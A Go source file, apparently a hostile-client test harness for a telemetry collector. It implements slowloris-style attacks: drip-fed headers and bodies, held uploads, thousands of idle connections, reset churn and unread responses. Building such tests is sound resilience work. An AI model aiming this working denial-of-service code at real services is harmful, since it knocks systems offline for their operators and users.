package hostile

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"time"
)

// drip writes the bytes of text one by one to all connections, over and over, until ctx is done.
func drip(ctx context.Context, connections []net.Conn, text string) {
	for i := 0; ctx.Err() == nil; i++ {
		for _, connection := range connections {
			_, _ = io.WriteString(connection, text[i%len(text):i%len(text)+1]) // the collector may have closed it
		}
		select {
		case <-ctx.Done():
		case <-time.After(200 * time.Millisecond):
		}
	}
}

// sendAll writes text to all connections.
func sendAll(ctx context.Context, connections []net.Conn, text string) error {
	return together(ctx, 8, len(connections), func(i int) error {
		_ = connections[i].SetWriteDeadline(time.Now().Add(5 * time.Second)) // the collector may have closed it
		_, _ = io.WriteString(connections[i], text)                          // the collector may have closed it, or not read it
		return nil
	})
}

// slowHeaders sends headers byte by byte on 2,000 connections.
func slowHeaders(ctx context.Context, t *target) error {
	connections, err := t.connections(ctx, min(2000, t.files/2))
	defer closeAll(connections)
	if err != nil {
		return err
	}
	if err := sendAll(ctx, connections, "POST /v1/events HTTP/1.1\r\nHost: a\r\n"); err != nil {
		return err
	}
	drip(ctx, connections, "X-A: b\r\n")
	return nil
}

// slowBodies announces bodies of 1 MB on 2,000 connections, plain, in chunks and packed, and sends them byte by byte.
func slowBodies(ctx context.Context, t *target) error {
	connections, err := t.connections(ctx, min(2000, t.files/2))
	defer closeAll(connections)
	if err != nil {
		return err
	}
	third := len(connections) / 3
	for i, headers := range []string{
		"Content-Length: 1000000\r\n\r\n",
		"Transfer-Encoding: chunked\r\n\r\nffff\r\n",
		"Content-Encoding: gzip\r\nContent-Length: 1000000\r\n\r\n\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff",
	} {
		if err := sendAll(ctx, connections[i*third:(i+1)*third], "POST /v1/events HTTP/1.1\r\nHost: a\r\n"+headers); err != nil {
			return err
		}
	}
	drip(ctx, connections, " ")
	return nil
}

// heldBodies sends nearly all of 1 MB on 200 connections, at some 100 MB a second, and then nothing.
func heldBodies(ctx context.Context, t *target) error {
	connections, err := t.connections(ctx, min(200, t.files/2))
	defer closeAll(connections)
	if err != nil {
		return err
	}
	sending := context.WithoutCancel(ctx) // it may take longer than the attack should
	part := "POST /v1/events HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n"
	for range 20 {
		if err := sendAll(sending, connections, part); err != nil {
			return err
		}
		part = strings.Repeat(" ", 50_000)
		time.Sleep(100 * time.Millisecond)
	}
	wait(ctx)
	return nil
}

// idleConnections opens 10,000 connections, more than the collector keeps here, and does nothing with them after one request.
func idleConnections(ctx context.Context, t *target) error {
	opening := context.WithoutCancel(ctx) // it may take longer than the attack should
	connections, err := t.connections(opening, 10_000)
	defer closeAll(connections)
	if err != nil {
		return fmt.Errorf("after %d connections: %w", len(connections), err)
	}
	// Each is answered, or closed to make room for a later one.
	err = together(opening, 32, len(connections), func(i int) error {
		if err := connections[i].SetReadDeadline(time.Now().Add(10 * time.Second)); err != nil {
			return err
		}
		_, err := connections[i].Read(make([]byte, 1))
		if errors.Is(err, os.ErrDeadlineExceeded) {
			return err
		}
		return nil
	})
	if err != nil {
		return err
	}
	wait(ctx)
	return nil
}

// churn opens connections and breaks them off in the middle of a request.
func churn(ctx context.Context, t *target) error {
	return together(ctx, 8, forever, func(int) error {
		connection, err := t.dial(ctx)
		if err != nil {
			return err
		}
		_, _ = io.WriteString(connection, "POST /v1/events HTTP/1.1\r\nHost: a\r\nContent-Le")
		if tcp, ok := connection.(*net.TCPConn); ok {
			_ = tcp.SetLinger(0) // a reset instead of an orderly end
		}
		_ = connection.Close()
		time.Sleep(time.Millisecond)
		return nil
	})
}

// slowReaders asks for much in one go on 5 connections and reads none of the answers.
func slowReaders(ctx context.Context, t *target) error {
	connections, err := t.connections(ctx, 5)
	defer closeAll(connections)
	if err != nil {
		return err
	}
	for _, connection := range connections {
		if tcp, ok := connection.(*net.TCPConn); ok {
			if err := tcp.SetReadBuffer(4096); err != nil {
				return err
			}
		}
	}
	if err := sendAll(ctx, connections, strings.Repeat("GET /nothing HTTP/1.1\r\nHost: a\r\n\r\n", 2000)); err != nil {
		return err
	}
	wait(ctx)
	return nil
}
